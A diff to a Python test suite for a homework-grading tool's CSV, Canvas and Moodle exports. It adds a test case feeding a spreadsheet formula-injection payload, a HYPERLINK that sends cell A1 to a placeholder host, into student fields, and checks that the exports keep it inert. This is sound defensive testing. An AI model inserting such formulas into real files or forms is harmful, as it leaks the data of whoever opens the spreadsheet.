@@ -15,12 +15,12 @@ from fractions import Fraction as F
 from pathlib import Path
 
 import pytest
-from hypothesis import HealthCheck, assume, event, given, settings, strategies as st
+from hypothesis import HealthCheck, assume, event, example, given, settings, strategies as st
 
 from irlab import spreadsheet
 from irlab.errors import InputFileError, ParameterError
 from irlab.homework import grade
-from irlab.homework.identity import normalise_student
+from irlab.homework.identity import looks_like_email, normalise_student
 from irlab.solvers.pooling import TrecPool
 from irlab.trec import evaluate, format_csv
 
@@ -192,20 +192,19 @@ def check_exports(report) -> None:
     """No cell of any CSV export runs as a formula, and the student's text is shown as irlab read it."""
     student = next(s for s in report.students if s.key != "s2")
     answer = "; ".join(p.answer for p in student.questions[0].parts)  # 1 a as irlab read it
-    for fmt, id_column in (("csv", 0), ("canvas", 2), ("moodle", 0)):
+    # an id that is an e-mail is no institution's id (irlab.homework.identity.looks_like_email): SIS/ID number blank
+    assert student.sis_id == ("" if looks_like_email(student.student) else student.student)
+    identity = {"csv": [student.student],
+                "canvas": [student.name or student.student, "", student.sis_id, student.email],
+                "moodle": [student.sis_id, student.email, student.name]}
+    for fmt, expected in identity.items():
         text = report.render(fmt)
         assert_no_formula(text)
         rows = read_as(text, ",")[1:]
-        # by the id column: an id such as "1" also appears as a score in other cells (Canvas's Points Possible row)
-        mine = [row for row in rows if unmarked(row[id_column]) == unmarked(student.student)]
+        # by the identity columns: an id such as "1" also appears as a score in other cells (Canvas's Points Possible)
+        mine = [row for row in rows if [unmarked(c) for c in row[:len(expected)]] == [unmarked(c) for c in expected]]
         assert mine, fmt
-        if fmt == "canvas":
-            assert [unmarked(c) for c in mine[0][:4]] == [unmarked(student.name or student.student), "",
-                                                          unmarked(student.student), unmarked(student.email)]
-        elif fmt == "moodle":
-            assert [unmarked(c) for c in mine[0][:3]] == [unmarked(student.student), unmarked(student.email),
-                                                          unmarked(student.name)]
-        else:
+        if fmt == "csv":
             assert unmarked(answer) in [unmarked(row[5]) for row in mine]
 
 
@@ -234,6 +233,8 @@ _HOSTILE = st.one_of(
 @settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
 @given(name=_HOSTILE, email=_HOSTILE, answer=_HOSTILE, student=_HOSTILE)
+@example(name='=HYPERLINK("http://x/?"&A1,"x")', email='=HYPERLINK("http://x/?"&A1,"x")',
+         answer='=HYPERLINK("http://x/?"&A1,"x")', student="0@0")  # an e-mail id: no SIS id (found by CI)
 def test_property_generated_hostile_cells_are_inert_in_every_csv_export(tmp_path, small_set, name, email, answer,
                                                                         student):
     assume(normalise_student(student) not in ("", "s2"))
